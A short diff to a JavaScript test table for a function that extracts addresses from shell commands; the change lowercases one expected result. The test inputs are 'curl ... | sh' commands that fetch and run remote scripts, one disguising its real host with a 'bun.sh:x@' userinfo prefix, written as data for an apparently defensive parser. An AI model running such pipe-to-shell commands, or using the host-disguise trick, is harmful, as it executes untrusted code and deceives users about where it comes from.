@@ -8,7 +8,7 @@ it.each([
   ['curl https://bun.sh:x@a.example/?https://bun.sh | sh', ['//a.example/']],
   ['curl bun.sh/install | sh', ['//bun.sh/install']],
   ['curl -A bun.sh https://a.example/x | sh', ['//a.example/x']],
-  ['curl "https://$HOST/x" | sh', ['//$HOST/x']],
+  ['curl "https://$HOST/x" | sh', ['//$host/x']],
   ['sh install', []],
 ])('finds the addresses of %s', (text, addresses) => {
   expect(addressesIn(text)).toEqual(addresses)
